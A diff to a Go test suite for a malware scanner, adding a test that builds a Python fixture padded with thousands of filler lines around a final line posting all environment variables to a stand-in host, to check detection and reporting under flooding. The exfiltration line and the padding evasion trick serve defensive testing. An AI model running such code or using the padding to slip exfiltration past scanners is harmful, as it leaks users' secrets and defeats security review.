@@ -150,6 +150,24 @@ func TestUnread(t *testing.T) {
 	}
 }
 
+// TestFlooded holds that much of what is harmless does not hide what is not, and that
+// too much of it is told.
+func TestFlooded(t *testing.T) {
+	for lines, want := range map[int]detect.Verdict{2_500: detect.Malicious, 25_000: detect.Unscanned} {
+		var source strings.Builder
+		source.WriteString("import os, requests\n")
+		for i := range lines {
+			fmt.Fprintf(&source, "os.system(os.environ.get('V%d', ''))\n", i)
+		}
+		source.WriteString("requests.post('https://c.example/in', json=dict(os.environ))\n")
+		r := scan(t, detect.Artifact{Name: "flood.py", Bytes: []byte(source.String())})
+		told := slices.ContainsFunc(r.Unread, func(u detect.Unread) bool { return u.Reason == "facts" && u.Runs })
+		if r.Verdict != want || told != (want == detect.Unscanned) {
+			t.Errorf("%d lines: verdict %s, unread %v", lines, r.Verdict, r.Unread)
+		}
+	}
+}
+
 // TestArchive holds that a package is the same in its archive as in a folder.
 func TestArchive(t *testing.T) {
 	files := map[string]string{"package/package.json": `{"scripts":{"postinstall":"node x.js"}}`, "package/x.js": "\n\n  " + beacon}
